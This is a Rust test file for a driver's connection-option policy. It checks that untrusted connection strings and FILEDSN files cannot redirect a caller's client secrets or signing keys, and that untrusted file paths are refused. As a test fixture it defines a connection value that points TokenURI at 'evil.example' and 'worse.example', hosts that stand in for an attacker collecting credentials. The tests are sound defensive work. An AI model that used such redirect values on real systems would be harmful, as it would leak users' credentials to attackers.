//! Tests of the process policy: secrets of the caller, paths, and files whose content is sent.

use crate::base::error::Status;
use crate::base::policy::{Permission, Policy, Restriction};
use crate::options::environment::testing::FakeEnvironment;
use crate::options::*;

fn forbid_file_paths() -> Policy {
    Policy::new(0, Restriction::FilePaths as u32).unwrap()
}

/// The options of `string` with those that the caller sets.
fn open(string: &str, set_by_caller: &[(&str, &str)]) -> Options {
    let mut options = Options::open(string, &FakeEnvironment::default()).unwrap();
    options.set(set_by_caller).unwrap();
    options
}

fn apply(options: &Options, policy: Policy, has_signer: bool) -> Options {
    options.resolve_secret_refs(policy, has_signer, &mut FileDependencies::empty())
}

/// Asserts that `option` is blocked because of the caller's `secret`.
#[track_caller]
fn assert_blocked(options: &Options, option: OptionId, secret: &str) {
    let errors = options.errors();
    let [error] = &errors[..] else { panic!("{errors:?}") };
    assert_eq!((error.status(), error.option()), (Status::InvalidOption, Some(option.as_str())));
    assert!(error.message().contains(&format!("secrets of the caller ({secret})")), "{error}");
    let value = options.get(option);
    assert!(value.is_none_or(|value| value.origin == OptionOrigin::Dsn), "{value:?}");
}

const REDIRECTED: &str = "TokenURI=POST https://evil.example/t";

/// A FILEDSN with `text`. Its path is untrusted, since a connection string names it with a directory.
fn write_file_dsn(text: &str) -> (tempfile::TempDir, String) {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("f.dsn");
    std::fs::write(&path, format!("[ODBC]\n{text}\n")).unwrap();
    let string = format!("FILEDSN={}", path.display());
    (folder, string)
}

#[test]
fn untrusted_text_cannot_redirect_secrets_of_caller() {
    let (_folder, file_dsn) = write_file_dsn(REDIRECTED);
    for string in [REDIRECTED, &file_dsn] {
        for secret in ["JWTCertStore", "ClientSecret", "ClientAssertionFile"] {
            let options = apply(&open(string, &[(secret, "/x")]), forbid_file_paths(), false);
            assert_blocked(&options, OptionId::TokenURI, secret);
        }
        let signing = apply(&open(string, &[]), forbid_file_paths(), true);
        assert_blocked(&signing, OptionId::TokenURI, "authgrant_set_signer");
    }
    let audience = open(r#"ClaimsAdditional={"aud":"a"}"#, &[("ClientSecret", "s")]);
    assert_blocked(&apply(&audience, forbid_file_paths(), false), OptionId::ClaimsAdditional, "ClientSecret");
}

#[test]
fn caller_guard_applies_only_to_redirected_secrets() {
    let secret = ("ClientSecret", "s");
    for (string, set_by_caller) in [
        (REDIRECTED, &[][..]),
        (REDIRECTED, &[("ClientSecret", "")]),
        (REDIRECTED, &[secret, ("AllowOverride", "1")]),
        (REDIRECTED, &[secret, ("TokenURI", "POST https://good.example/t")]),
        (r#"ClaimsAdditional={"tenant":"a"}"#, &[secret]),
        (r#"Scope={{"aud":"a"}}}"#, &[secret]),
        ("LoginTimeout=5", &[secret]),
    ] {
        let options = apply(&open(string, set_by_caller), forbid_file_paths(), false);
        assert_eq!(options.errors(), [], "{string} {set_by_caller:?}");
    }
    let refused = apply(&open(REDIRECTED, &[secret, ("AllowOverride", "0")]), forbid_file_paths(), false);
    assert_blocked(&refused, OptionId::TokenURI, "ClientSecret");
    let unrestricted = apply(&open(REDIRECTED, &[secret]), Policy::default(), true);
    assert_eq!(unrestricted.errors(), []);
}

#[test]
fn caller_guard_trusts_odbc_ini() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("odbc.ini"), format!("[a]\n{REDIRECTED}\n")).unwrap();
    let system_folders = vec![folder.path().to_owned()];
    let environment = FakeEnvironment { system_folders, ..FakeEnvironment::default() };
    for (string, is_blocked) in [
        ("DSN=a".to_owned(), false),
        (format!("DSN=a;{REDIRECTED}"), false),
        ("DSN=a;TokenURI=POST https://worse.example/t".to_owned(), true),
    ] {
        let mut options = Options::open(&string, &environment).unwrap();
        options.set(&[("ClientSecret", "s")]).unwrap();
        let options = apply(&options, forbid_file_paths(), false);
        if is_blocked {
            assert_blocked(&options, OptionId::TokenURI, "ClientSecret");
        }
        assert_eq!(options.get(OptionId::TokenURI).unwrap().text.reveal(), "POST https://evil.example/t");
        assert_eq!(options.errors().len(), usize::from(is_blocked), "{string}");
    }
}

#[test]
fn path_is_rejected_for_content_or_policy() {
    let (content, forbidden, token) = ("is the content of a file", "AUTHGRANT_FORBID_FILE_PATHS", "PKCS#11");
    let key = "-----BEGIN PRIVATE KEY-----";
    for (option, text, with_policy, without_policy) in [
        ("JWTCertStore", key, &[content, "set JWTPrivateKey"][..], &[content, "set JWTPrivateKey"][..]),
        ("TrustStore", key, &[content, "save it in a file"], &[content, "save it in a file"]),
        ("Scope", key, &[], &[]),
        ("Scope", "/nowhere/a", &[], &[]),
        ("JWTCertStore", "", &[], &[]),
        ("JWTCertStore", "/nowhere/a", &[forbidden], &[]),
        ("JWTCertStore", "pkcs11:token=a", &[token, forbidden], &[]),
        ("TrustStore", "/nowhere/a", &[forbidden], &[]),
        ("TrustStore", "pkcs11:token=a", &[forbidden], &[]),
        ("FILEDSN", "a.dsn", &[], &[]),
        ("FILEDSN", "/nowhere/a.dsn", &[forbidden], &[]),
    ] {
        let spec = table::find(option).unwrap();
        let options = Options::default();
        let rejection = |origin, policy| {
            options.path_rejection(spec, &OptionValue::new(Secret::from(text), origin, option), policy)
        };
        let is_as_expected = |rejection: Option<String>, fragments: &[&str]| match rejection {
            Some(reason) => {
                let has_token = fragments.contains(&token);
                !fragments.is_empty()
                    && fragments.iter().all(|fragment| reason.contains(fragment))
                    && reason.contains(token) == has_token
            }
            None => fragments.is_empty(),
        };
        let untrusted = OptionOrigin::ConnectionString;
        assert!(is_as_expected(rejection(untrusted, forbid_file_paths()), with_policy), "{option} {text}");
        assert!(is_as_expected(rejection(untrusted, Policy::default()), without_policy), "{option} {text}");
        for trusted in [OptionOrigin::SetOption, OptionOrigin::Dsn] {
            assert!(
                is_as_expected(rejection(trusted, forbid_file_paths()), without_policy),
                "{option} {text}"
            );
        }
    }
}

#[test]
fn file_dsn_outside_allowed_directories_is_refused() {
    let (_folder, string) = write_file_dsn("Scope=a");
    let path = string.strip_prefix("FILEDSN=").unwrap();
    let load = |policy| {
        data_source::load_file_dsn(path, &DriverKeywords::default(), &FakeEnvironment::default(), policy)
    };
    let error = load(forbid_file_paths()).err().unwrap();
    assert_eq!((error.status(), error.option()), (Status::InvalidOption, Some("FILEDSN")));
    assert!(load(Policy::default()).is_ok());
}

#[test]
fn untrusted_assertion_file_needs_permission() {
    let allowed = Policy::new(Permission::References as u32, 0).unwrap();
    let options = |string: &str, policy| apply(&open(string, &[]), policy, false);
    let (_folder, file_dsn) = write_file_dsn("ClientAssertionFile=/a");
    for string in ["ClientAssertionFile=/a", &file_dsn] {
        let errors = options(string, Policy::default()).errors();
        let [error] = &errors[..] else { panic!("{errors:?}") };
        assert_eq!((error.status(), error.option()), (Status::InvalidOption, Some("ClientAssertionFile")));
        assert_eq!(options(string, allowed).errors(), []);
    }
    let set_by_caller = open("", &[("ClientAssertionFile", "/a")]);
    assert_eq!(apply(&set_by_caller, Policy::default(), false).errors(), []);
}
